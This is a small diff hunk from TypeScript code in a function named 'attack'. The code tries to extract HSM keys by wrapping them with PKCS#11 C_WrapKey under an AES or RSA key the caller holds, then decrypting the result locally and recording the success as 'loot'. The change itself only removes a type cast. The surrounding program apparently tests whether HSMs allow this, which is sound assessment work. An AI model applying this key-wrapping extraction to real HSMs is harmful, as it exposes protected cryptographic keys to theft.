@@ -145,7 +145,7 @@ function attack(member: HsmMember, pin: string, record: WrappedMaterial, sealed:
         const underRsa = outcome(() => Buffer.from(api.C_WrapKey(s, oaep, myRsa, key, Buffer.alloc(512)))) as Buffer | undefined;
         const got = [
           underAes && (outcome(() => unwrapRfc5649(known, underAes)) as Buffer | undefined),
-          underRsa && (outcome(() => privateDecrypt({ key: rsa.privateKey as KeyObject, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha1' }, underRsa)) as Buffer | undefined),
+          underRsa && (outcome(() => privateDecrypt({ key: rsa.privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha1' }, underRsa)) as Buffer | undefined),
         ];
         if (got.some((v) => decrypts(v || undefined, sealed, plaintext))) loot.unwrappedWrappable = true;
       }
